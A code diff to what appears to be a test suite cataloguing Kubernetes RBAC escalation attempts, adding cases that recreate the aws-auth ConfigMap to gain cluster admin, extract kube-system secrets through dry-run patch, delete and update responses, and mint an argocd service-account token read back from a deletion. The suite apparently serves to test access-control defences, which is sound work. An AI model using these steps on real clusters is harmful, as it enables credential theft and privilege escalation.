@@ -1,6 +1,7 @@
 import { Buffer } from 'node:buffer';
 import * as v from 'valibot';
 import { expect, vi } from 'vitest';
+import type { AwsAuthState } from '../../src/rbac/model.ts';
 import type { Risk } from '../../src/rbac/ways.ts';
 import { adminToken, type ClientCertificate, callApi } from './api.ts';
 import { sessionOf, tokenOf } from './callers.ts';
@@ -32,6 +33,8 @@ export interface Attempt {
   /** Short description of the attempt. */
   readonly title: string;
   readonly rights: readonly Right[];
+  /** Knowledge about aws-auth; by default, that it counts. */
+  readonly awsAuth?: AwsAuthState;
   /** Returns the caller who ends up as cluster admin. */
   readonly run: (me: Caller) => Promise<Caller>;
   /** The error of the first step that fails; undefined if none does. */
@@ -175,6 +178,8 @@ async function requireSecrets(who: Caller, path: string, name: string): Promise<
   expect(items.map(({ metadata }) => metadata.name)).toContain(name);
 }
 
+const SECRETS_OF_SYSTEM = '/api/v1/namespaces/kube-system/secrets';
+const SECRET_OF_SYSTEM = `${SECRETS_OF_SYSTEM}/of-kube-system`;
 const readsAllSecrets = (who: Caller) => requireSecrets(who, '/api/v1/secrets', `of-${PAYMENTS}`);
 const readsSystemSecrets = (who: Caller) =>
   requireSecrets(who, '/api/v1/namespaces/kube-system/secrets', 'of-kube-system');
@@ -640,6 +645,20 @@ export const ATTEMPTS: readonly Attempt[] = [
     refusal: /: 409 /,
   },
   {
+    risk: 'edit-aws-auth',
+    title: 'create aws-auth if it is missing',
+    rights: [configMaps('create')],
+    awsAuth: 'may exist',
+    run: async (me) => {
+      // The API server caches a token for ten seconds; in EKS, the caller has an access entry.
+      const still = me.withOneToken();
+      await still.get('/version');
+      await setAwsAuth(null);
+      await still.post('/api/v1/namespaces/kube-system/configmaps', awsAuth);
+      return evil;
+    },
+  },
+  {
     risk: 'edit-webhooks',
     title: 'a webhook that changes aws-auth',
     rights: [everywhere(admission('create', 'mutatingwebhookconfigurations'))],
@@ -689,6 +708,51 @@ export const ATTEMPTS: readonly Attempt[] = [
       proof: (me) => readSecret(me, verb, PAYMENTS, `of-${PAYMENTS}`),
     }),
   ),
+  ...(
+    [
+      ['patch', (me) => me.patch(SECRET_OF_SYSTEM, {})],
+      ['delete', (me) => me.delete(`${SECRET_OF_SYSTEM}?dryRun=All&propagationPolicy=Foreground`)],
+      ['deletecollection', (me) => me.delete(`${SECRETS_OF_SYSTEM}?dryRun=All`)],
+    ] as const satisfies readonly (readonly [string, (me: Caller) => Promise<unknown>])[]
+  ).map(
+    ([verb, ask]): Attempt => ({
+      risk: 'read-system-secrets',
+      title: `${verb} secrets, which returns them`,
+      rights: [within('kube-system', rule(verb, '', 'secrets'))],
+      run: async (me) => me,
+      proof: async (me) =>
+        expect(JSON.stringify(await ask(me))).toContain(Buffer.from(SECRET).toString('base64')),
+    }),
+  ),
+  {
+    risk: 'read-system-secrets',
+    title: 'update secrets, which returns what the request has',
+    rights: [within('kube-system', rule('update', '', 'secrets'))],
+    run: async (me) => me,
+    proof: async (me) => {
+      const answer = await me.put(`${SECRET_OF_SYSTEM}?dryRun=All`, { metadata: { name: 'of-kube-system' } });
+      expect(JSON.stringify(answer)).toContain(Buffer.from(SECRET).toString('base64'));
+    },
+    refusal: /to contain/,
+  },
+  {
+    risk: 'create-tokens',
+    title: 'a secret that requests a token, returned by its deletion',
+    rights: [within(PAYMENTS, rule('create delete', '', 'secrets'))],
+    run: async (me) => {
+      const annotations = { 'kubernetes.io/service-account.name': 'argocd' };
+      const metadata = { name: `of-${me.name}`, annotations };
+      const path = `/api/v1/namespaces/${PAYMENTS}/secrets`;
+      await me.post(path, { metadata, type: 'kubernetes.io/service-account-token' });
+      return eventually(async () => {
+        const deletion = `${path}/${metadata.name}?dryRun=All&propagationPolicy=Foreground`;
+        const { data } = v.parse(v.object({ data: dataSchema }), await me.delete(deletion));
+        const token = Buffer.from(data?.token ?? '', 'base64').toString();
+        expect(token).not.toBe('');
+        return new Caller('argocd', () => token);
+      });
+    },
+  },
   {
     risk: 'read-secrets',
     title: 'all secrets through a role in one namespace',
